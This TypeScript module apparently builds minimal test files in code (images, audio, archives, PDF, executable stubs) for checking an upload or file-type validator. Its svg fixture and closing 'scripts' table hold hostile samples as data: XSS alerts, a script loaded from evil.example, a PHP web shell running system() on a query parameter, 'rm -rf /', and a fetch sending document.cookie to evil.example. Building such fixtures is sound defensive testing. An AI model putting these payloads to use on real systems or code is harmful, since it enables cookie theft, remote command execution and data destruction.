import { crc32, deflateSync } from 'node:zlib';

// The smallest files that still are what they say: made here, so that no binary lies in the repository.

export const bytes = (...parts: (string | number[] | Uint8Array)[]): Uint8Array<ArrayBuffer> =>
  new Uint8Array(
    Buffer.concat(
      parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
    ),
  );

const uint32 = (value: number) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
const zeros = (count: number) => new Uint8Array(count);

/** A JPEG of the given size at least: start, JFIF header, comment segments, end. */
export function jpeg(size = 200, fill = 0): Uint8Array<ArrayBuffer> {
  const head = bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0]);
  const rest = Math.max(0, size - head.length - 2);
  return bytes(head, new Uint8Array(rest).fill(fill), [0xff, 0xd9]);
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const body = bytes(type, data);
  return bytes(uint32(data.length), body, uint32(crc32(body)));
}

export function png(): Uint8Array<ArrayBuffer> {
  const header = bytes(uint32(1), uint32(1), [8, 0, 0, 0, 0]);
  return bytes(
    [0x89],
    'PNG\r\n\x1a\n',
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0]))),
    pngChunk('IEND', zeros(0)),
  );
}

export function apng(): Uint8Array<ArrayBuffer> {
  const header = bytes(uint32(1), uint32(1), [8, 0, 0, 0, 0]);
  return bytes(
    [0x89],
    'PNG\r\n\x1a\n',
    pngChunk('IHDR', header),
    pngChunk('acTL', bytes(uint32(1), uint32(0))),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0]))),
    pngChunk('IEND', zeros(0)),
  );
}

export const gif = () => bytes('GIF89a', [1, 0, 1, 0, 0, 0, 0, 0x3b]);

function riff(form: string, chunk: Uint8Array): Uint8Array<ArrayBuffer> {
  const size = chunk.length + 4;
  return bytes('RIFF', [size & 255, (size >> 8) & 255, 0, 0], form, chunk);
}
export const webp = () => riff('WEBP', bytes('VP8 ', [10, 0, 0, 0], zeros(10)));
export const wav = () => riff('WAVE', bytes('fmt ', [16, 0, 0, 0], zeros(16), 'data', [0, 0, 0, 0]));

/** A file of ISO base media boxes (ISO/IEC 14496-12): its brand says which kind it is. */
export const isoMedia = (brand: string, ...compatible: string[]) => {
  const brands = bytes(brand, [0, 0, 0, 0], brand, ...compatible);
  return bytes(uint32(brands.length + 8), 'ftyp', brands, uint32(24), 'mdat', zeros(16));
};

/** A TIFF whose directory is its last part, as cameras and scanners write them. */
export function tiff(order: 'II' | 'MM', imageBytes = 100_000): Uint8Array<ArrayBuffer> {
  const little = order === 'II';
  const number = (value: number, length: 2 | 4) => {
    const buffer = Buffer.alloc(length);
    if (little) buffer.writeUIntLE(value, 0, length);
    else buffer.writeUIntBE(value, 0, length);
    return buffer;
  };
  const entry = (tag: number, value: number) =>
    bytes(number(tag, 2), number(4, 2), number(1, 4), number(value, 4));
  const directory = bytes(number(2, 2), entry(256, 10), entry(257, 10), number(0, 4));
  return bytes(order, number(42, 2), number(8 + imageBytes, 4), zeros(imageBytes), directory);
}

export const svg = (prolog = '') =>
  bytes(`${prolog}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>`);

export const pdf = () =>
  bytes('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n');

/** An archive with one stored file of the name and content. */
export function zip(name = 'note.txt', content = 'hello'): Uint8Array<ArrayBuffer> {
  const file = Buffer.from(content);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt32LE(crc32(file), 14);
  head.writeUInt32LE(file.length, 18);
  head.writeUInt32LE(file.length, 22);
  head.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  head.copy(central, 16, 14, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(head.length + name.length + file.length, 16);
  return bytes(head, name, file, central, name, end);
}

/** EBML with the document type "webm" (RFC 8794). */
export const webm = () =>
  bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x82, 0x84], 'webm', [0x42, 0x87, 0x81, 4], zeros(40));

const mp3Frame = () => bytes([0xff, 0xfb, 0x90, 0x44], zeros(413));
export const mp3 = () => bytes(mp3Frame(), mp3Frame(), mp3Frame());

/** The length in the header of ID3v2 has seven bits a byte. */
export function mp3WithId3(tagBytes = 300 * 1024): Uint8Array<ArrayBuffer> {
  const size = [21, 14, 7, 0].map((shift) => (tagBytes >> shift) & 127);
  return bytes('ID3', [4, 0, 0, ...size], zeros(tagBytes), mp3());
}

/** The first page of an Ogg stream with a Vorbis header. */
export const ogg = () =>
  bytes('OggS', [0, 2], zeros(8), [1, 0, 0, 0], zeros(4), zeros(4), [1, 30], [1], 'vorbis', zeros(23));

/** A sequence that looks random and is the same every time (a linear congruential generator). */
export function noise(size: number, seed = 1): Uint8Array<ArrayBuffer> {
  let state = seed;
  return Uint8Array.from({ length: size }, () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state >>> 16;
  }) as Uint8Array<ArrayBuffer>;
}

export const windowsProgram = () => bytes('MZ', [0x90, 0, 3], zeros(200), 'PE\0\0');
export const linuxProgram = () => bytes([0x7f], 'ELF', [2, 1, 1, 0], zeros(60));

export const scripts: Record<string, Uint8Array<ArrayBuffer>> = {
  html: bytes('<!doctype html><html><body><script>alert(1)</script></body></html>'),
  'html without a doctype': bytes('<script src=//evil.example></script>'),
  php: bytes('<?php system($_GET["c"]); ?>'),
  'shell script': bytes('#!/bin/sh\nrm -rf /\n'),
  javascript: bytes('fetch("https://evil.example/?" + document.cookie);\n'),
  'plain text': bytes('This is no picture.\n'),
};
